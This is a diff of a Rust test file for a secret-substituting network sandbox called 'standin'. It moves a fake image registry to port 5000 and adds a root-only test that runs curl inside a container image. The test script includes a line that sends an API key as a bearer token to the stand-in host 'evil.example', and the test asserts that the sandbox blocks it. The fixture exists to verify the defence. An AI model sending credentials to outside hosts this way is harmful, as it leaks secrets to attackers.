@@ -13,7 +13,8 @@ use support::{FakeInternet, IMAGE_REGISTRY_V4, report, stderr, stdout};
 
 const USER: &str = "ci";
 const PASSWORD: &str = "correct-horse";
-const REGISTRY: &str = "registry.test";
+/// Port 5000: the fake internet's own HTTPS servers listen on 443.
+const REGISTRY: &str = "registry.test:5000";
 
 /// A registry in the fake internet, with the files a client needs.
 struct Registry {
@@ -42,7 +43,7 @@ impl Registry {
         std::fs::write(
             d.join("config.yml"),
             format!(
-                "version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: {data}\n  delete:\n    enabled: true\nhttp:\n  addr: {IMAGE_REGISTRY_V4}:443\n  tls:\n    certificate: {cert}\n    key: {key}\nauth:\n  htpasswd:\n    realm: standin-test\n    path: {htpasswd}\n",
+                "version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: {data}\n  delete:\n    enabled: true\nhttp:\n  addr: {IMAGE_REGISTRY_V4}:5000\n  tls:\n    certificate: {cert}\n    key: {key}\nauth:\n  htpasswd:\n    realm: standin-test\n    path: {htpasswd}\n",
                 data = d.join("data").display(),
                 cert = pki.join("leaf.pem").display(),
                 key = pki.join("leaf.key").display(),
@@ -273,7 +274,7 @@ fn pulls_over_tls_with_basic_auth_and_runs_the_image_config() {
     );
     assert!(o.status.success(), "{}", report(&o, &net));
     assert!(
-        stdout(&o).starts_with("registry.test/bb:1 sha256:"),
+        stdout(&o).starts_with("registry.test:5000/bb:1 sha256:"),
         "{}",
         stdout(&o)
     );
@@ -311,7 +312,7 @@ fn pulls_over_tls_with_basic_auth_and_runs_the_image_config() {
     );
     let images = standin(&net, &reg, h, &["images"]);
     assert!(
-        stdout(&images).contains("registry.test/bb:1"),
+        stdout(&images).contains("registry.test:5000/bb:1"),
         "{}",
         stdout(&images)
     );
@@ -676,4 +677,97 @@ fn concurrent_pulls_of_one_image_share_one_copy() {
         ],
     );
     assert_eq!(stdout(&o), "ok\n", "{}", report(&o, &net));
+}
+
+/// An OCI layout tagged `base` holding busybox and the host's curl with the libraries `ldd`
+/// names: a small real userland with a TLS client.
+fn curl_layout(dir: &Path) -> PathBuf {
+    let layout = dir.join("curl-oci");
+    let bundle = dir.join("curl-bundle");
+    let l = layout.to_str().unwrap();
+    umoci(&["init", "--layout", l]);
+    umoci(&["new", "--image", &format!("{l}:base")]);
+    umoci(&[
+        "unpack",
+        "--image",
+        &format!("{l}:base"),
+        bundle.to_str().unwrap(),
+    ]);
+    let root = bundle.join("rootfs");
+    let copy = |path: &str| {
+        let dest = root.join(path.trim_start_matches('/'));
+        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
+        std::fs::copy(path, &dest).unwrap_or_else(|e| panic!("copy {path}: {e}"));
+    };
+    copy("/usr/bin/curl");
+    copy("/bin/busybox");
+    std::os::unix::fs::symlink("busybox", root.join("bin/sh")).unwrap();
+    let ldd = run(Command::new("ldd").arg("/usr/bin/curl"));
+    for line in stdout(&ldd).lines() {
+        let path = match line.split_once("=>") {
+            Some((_, rest)) => rest.split_whitespace().next(),
+            None => line.split_whitespace().next(),
+        };
+        if let Some(p) = path.filter(|p| p.starts_with('/')) {
+            copy(p);
+        }
+    }
+    umoci(&[
+        "repack",
+        "--image",
+        &format!("{l}:base"),
+        bundle.to_str().unwrap(),
+    ]);
+    umoci(&[
+        "config",
+        "--image",
+        &format!("{l}:base"),
+        "--config.env",
+        "PATH=/usr/bin:/bin",
+    ]);
+    layout
+}
+
+#[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
+fn secrets_are_substituted_and_violations_blocked_inside_an_image_sandbox() {
+    const VALUE: &str = "sk-image-test-0123456789";
+    let net = FakeInternet::with_http(&[80], &[443]);
+    let reg = Registry::start(&net);
+    let work = tempfile::tempdir().unwrap();
+    let layout = curl_layout(work.path());
+    reg.push(&net, &layout, "base", "curl:1");
+    let home = tempfile::tempdir().unwrap();
+    let ca = net.ca_file().display().to_string();
+    let o = standin(
+        &net,
+        &reg,
+        home.path(),
+        &["pull", "--registry-ca", &ca, &image("curl:1")],
+    );
+    assert!(o.status.success(), "{}", report(&o, &net));
+    let script = r#"test ! -e /usr/bin/python3 && echo image-root; \
+        curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models; \
+        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example/ 2>/dev/null || echo blocked"#;
+    let o = run(Command::new("ip")
+        .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
+        .args(["--image", &image("curl:1"), "--upstream-ca", &ca])
+        .args(["--secret", "OPENAI_API_KEY@api.openai.com", "--"])
+        .args(["sh", "-c", script])
+        .env("STANDIN_HOME", home.path())
+        .env("OPENAI_API_KEY", VALUE));
+    assert_eq!(
+        stdout(&o),
+        "image-root\n200\nblocked\n",
+        "{}",
+        report(&o, &net)
+    );
+    let got = net.received_at(support::UPSTREAM_V4);
+    assert!(
+        got.to_ascii_lowercase()
+            .contains(&format!("authorization: bearer {VALUE}\r\n")),
+        "{got}"
+    );
+    let evil = net.received_at(support::EVIL_V4);
+    assert!(!evil.contains(VALUE) && !evil.contains("MSB_"), "{evil}");
 }
